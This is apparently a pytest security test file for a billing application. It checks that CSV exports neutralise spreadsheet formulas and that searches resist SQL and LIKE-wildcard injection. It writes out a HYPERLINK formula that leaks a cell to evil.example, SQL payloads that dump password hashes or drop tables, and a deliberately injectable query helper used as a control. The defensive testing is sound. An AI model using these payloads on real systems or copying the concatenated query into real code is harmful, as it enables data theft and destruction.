"""What is written into a field to be run somewhere else: by the spreadsheet that opens a file, or by the database that is searched."""

import csv
import io
from collections.abc import Iterator

import psycopg
import pytest

from core.access import SYSTEM, Actor
from core.db import unit_of_work
from core.errors import BadInput
from core.models.reports import ReportFormat, ReportKind
from core.security import audit as record
from core.services import audit, audit_exports, lookups, reports
from core.services.asked import Asked
from core.services.exports import Profile
from core.states import Status
from tests.attacks.report import ControlFired, Refused
from tests.exports.conftest import Crowd, crowd, exported  # noqa: F401 - fixtures
from tests.exports.test_spreadsheet import LITERAL, OPENS_A_FORMULA
from tests.reports.conftest import HOSTILE, MONDAY, MONDAY_NOON
from tests.statistics.conftest import Book, book  # noqa: F401 - fixtures
from tests.world import AddPerson, Database

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")'
FORMULAS = (FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", " =1", "＝1", "＠x")


def cells(file: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(file.decode("utf-8-sig"), newline="")) for cell in row]


def references(file: bytes) -> set[str]:
    return {row["reference"] for row in csv.DictReader(io.StringIO(file.decode(), newline=""))}


def formulas_in(file: bytes) -> list[str]:
    """Cells that a spreadsheet would run, the literals that keep our own identifiers aside; a number is none."""
    return [cell for cell in cells(file) if OPENS_A_FORMULA.match(cell) and not LITERAL.fullmatch(cell)]


@pytest.fixture
def manager(database: Database, add_person: AddPerson) -> Actor:
    return add_person("manager", username="mphatso")


def write(*subjects: str, **details: object) -> None:
    with unit_of_work() as session:
        for subject in subjects:
            record.record(session, SYSTEM, "thing.done", "thing", subject, **details)


# ---- Formulas, at each way out


@pytest.mark.attack("csv-formulas")
def test_a_formula_in_a_customers_name_is_text_in_the_export(crowd: Crowd, control_fired: ControlFired, refused: Refused) -> None:  # noqa: F811
    as_it_is = formulas_in(exported(crowd.analyst, Asked(), Profile.DATA))
    assert any(cell.startswith("=HYPERLINK(") for cell in as_it_is)
    control_fired("the profile for programs, which neutralises nothing, has the formula as a cell")

    file = exported(crowd.analyst, Asked(), Profile.SPREADSHEET)
    assert formulas_in(file) == []
    assert '\'=HYPERLINK("http://evil.example","click")' in cells(file)
    refused("in the file for spreadsheets it stands behind an apostrophe")


@pytest.mark.attack("csv-formulas")
def test_a_formula_as_a_user_name_or_in_a_reason_is_text_in_the_record(
    database: Database, manager: Actor, control_fired: ControlFired, refused: Refused
) -> None:
    for formula in FORMULAS:
        write(formula, note=formula)
    with database.connect() as connection, connection.cursor().copy("COPY (SELECT subject_id FROM audit_entries) TO STDOUT (FORMAT csv)") as copy:
        as_it_is = b"".join(map(bytes, copy))
    assert len(formulas_in(as_it_is)) == len(FORMULAS)
    control_fired("the table copied as it is has each of them as a cell")

    running = audit_exports.begin(manager, audit.Asked("about:thing"))
    file = b""
    while block := running.next_block():
        file += block
    running.end()
    assert formulas_in(file) == []
    assert {f"'{formula}" for formula in FORMULAS} <= set(cells(file))
    refused("in the record's file each stands behind an apostrophe")


@pytest.mark.attack("csv-formulas")
def test_a_formula_that_a_biller_answers_with_is_text_in_the_report(
    book: Book,  # noqa: F811
    manager: Actor,
    control_fired: ControlFired,
    refused: Refused,
) -> None:
    for place, said in enumerate(HOSTILE):
        book.row(MONDAY_NOON, Status.FAILED, "500.00", error_code=f"E{place}", error_message=said)
    book.sum_up()
    plain = io.StringIO()
    csv.writer(plain).writerows([said] for said in HOSTILE)
    assert formulas_in(plain.getvalue().encode())
    control_fired("the same words written by the csv module are formulas")

    file = reports.take(manager, ReportKind.DAILY, MONDAY.isoformat(), ReportFormat.CSV).content
    assert formulas_in(file) == []
    assert f"'{HOSTILE[0]}" in cells(file)
    refused("in the report each stands behind an apostrophe")


# ---- SQL

EVERYTHING = "x' OR '1'='1"
DROPS = "x'; DROP TABLE scratch; --"
PAYLOADS = (
    EVERYTHING,
    DROPS,
    "x') OR ('1'='1",
    "x' UNION SELECT password_hash FROM users --",
    "\\'; DROP TABLE scratch; --",
    "$$; DROP TABLE scratch; $$",
    "%(x)s :x {0}",
)


def concatenated(connection: psycopg.Connection, table: str, column: str, said: str) -> int:
    """As a console would ask that puts what was typed into its SQL."""
    return len(connection.execute(f"SELECT {column} FROM {table} WHERE {column} = '{said}'").fetchall())  # type: ignore[arg-type]


@pytest.fixture
def scratch(database: Database) -> Iterator[psycopg.Connection]:
    """A table that the payloads would drop."""
    with database.connect() as connection:
        connection.execute("CREATE TABLE scratch (x text)")
        yield connection


def is_there(connection: psycopg.Connection) -> bool:
    return connection.execute("SELECT to_regclass('scratch') IS NOT NULL").fetchone() == (True,)


def control(connection: psycopg.Connection, table: str, column: str) -> None:
    """Put together by hand, one finds everything and the other drops the table."""
    assert concatenated(connection, table, column, EVERYTHING) > 1
    concatenated(connection, table, column, DROPS)
    assert not is_there(connection)
    connection.execute("CREATE TABLE scratch (x text)")


@pytest.mark.attack("sql-injection")
def test_sql_in_the_search_of_transactions_is_looked_for_as_it_stands(
    crowd: Crowd,  # noqa: F811
    scratch: psycopg.Connection,
    control_fired: ControlFired,
    refused: Refused,
) -> None:
    control(scratch, "transactions", "account_number")
    control_fired("concatenated into the list's question, the payload finds every row, and drops a table")

    for payload in PAYLOADS:
        for asked in (Asked(search=payload), Asked(account=payload), Asked(reference=payload), Asked(reasons=(payload,))):
            assert references(exported(crowd.analyst, asked, Profile.DATA)) == set(), payload
    assert is_there(scratch)
    refused("search, account, reference and reason find nothing, and the table is there")


@pytest.mark.attack("sql-injection")
def test_sql_in_the_search_of_the_record_is_looked_for_as_it_stands(
    manager: Actor, scratch: psycopg.Connection, control_fired: ControlFired, refused: Refused
) -> None:
    write("1", "2", "3")
    control(scratch, "audit_entries", "subject_id")
    control_fired("concatenated into the record's question, the payload finds every entry, and drops a table")

    for payload in PAYLOADS:
        said = payload.replace("\\", "\\\\").replace('"', '\\"')
        for line in (f'"{said}"', f'who:"{said}"', f'about:"thing:{said}"', f'from:"{said}"'):
            page = audit.look(manager, audit.Asked(line))
            assert not page.entries, line
            assert not page.complaints, line
        for line in (f'action:"{said}"', f'since:"{said}"'):
            assert audit.look(manager, audit.Asked(line)).complaints
        assert not audit.look(manager, audit.Asked(subject=f"thing:{payload}")).entries
    assert is_there(scratch)
    refused("each qualifier and the words find nothing, and the table is there")


@pytest.mark.attack("sql-injection")
def test_sql_in_the_field_of_an_account_is_no_account(
    database: Database, add_person: AddPerson, scratch: psycopg.Connection, control_fired: ControlFired, refused: Refused
) -> None:
    with database.connect() as connection:
        connection.execute("UPDATE biller_configs SET is_active = true")
    grace = add_person("operator")
    scratch.execute("INSERT INTO scratch VALUES ('one'), ('two')")
    assert concatenated(scratch, "scratch", "x", EVERYTHING) == 2
    control_fired("concatenated into a question, the payload finds every row")

    for payload in PAYLOADS:
        with pytest.raises(BadInput):
            lookups.ask(grace, "LWB_POSTPAID", payload)
    assert is_there(scratch)
    with database.connect() as connection:
        assert connection.execute("SELECT count(*) FROM transactions").fetchone() == (0,)
    refused("no look-up is made of it, and the table is there")


# ---- LIKE

# Where a search looks for a part of what stands there, or for how it begins.
NAMES = ("account_number", "meter_number", "customer_account_name", "external_transaction_id", "invoice_number")


@pytest.mark.attack("like-injection")
@pytest.mark.parametrize("wild", ["%%%", "___", "%a%", "a%b", "\\%\\", "100%"])
def test_wildcards_are_letters_in_the_search_of_transactions(
    crowd: Crowd,  # noqa: F811
    wild: str,
    control_fired: ControlFired,
    refused: Refused,
) -> None:

    with crowd.database.connect() as connection:
        pattern = f"%{wild}%" if "\\" not in wild else "%"
        ((many,),) = connection.execute("SELECT count(*) FROM transactions WHERE customer_account_name ILIKE %s", (pattern,)).fetchall()
    if wild != "100%":
        assert many > sum(wild.lower() in str(row["customer_account_name"] or "").lower() for row in crowd.rows)
        control_fired("put into a pattern as it is, it finds names that it is not in")

    holds = {str(row["our_transaction_id"]) for row in crowd.rows if any(wild.lower() in str(row[name] or "").lower() for name in NAMES)}
    assert references(exported(crowd.analyst, Asked(search=wild), Profile.DATA)) == holds
    refused("it finds what it stands in, letter by letter, and nothing else")


@pytest.mark.attack("like-injection")
@pytest.mark.parametrize("wild", ["%", "_", "%%%", "s_re", "\\", "100%"])
def test_wildcards_are_letters_in_the_search_of_the_record(
    database: Database, manager: Actor, wild: str, control_fired: ControlFired, refused: Refused
) -> None:
    notes = ("100% sure", "sure", "s_re", "back\\slash")
    for number, note in enumerate(notes):
        write(str(number), note=note)
    with database.connect() as connection:
        pattern = f"%{wild}%" if wild != "\\" else "%\\%%"
        ((many,),) = connection.execute("SELECT count(*) FROM audit_entries WHERE details->>'note' ILIKE %s", (pattern,)).fetchall()
    holds = [str(number) for number, note in enumerate(notes) if wild in note]
    if many > len(holds):
        control_fired("put into a pattern as it is, it finds entries that it is not in")

    said = wild.replace("\\", "\\\\")
    page = audit.look(manager, audit.Asked(f'about:thing "{said}"'))
    assert sorted(entry.subject_id for entry in page.entries) == holds
    refused("it finds the entries that it stands in, and no other")
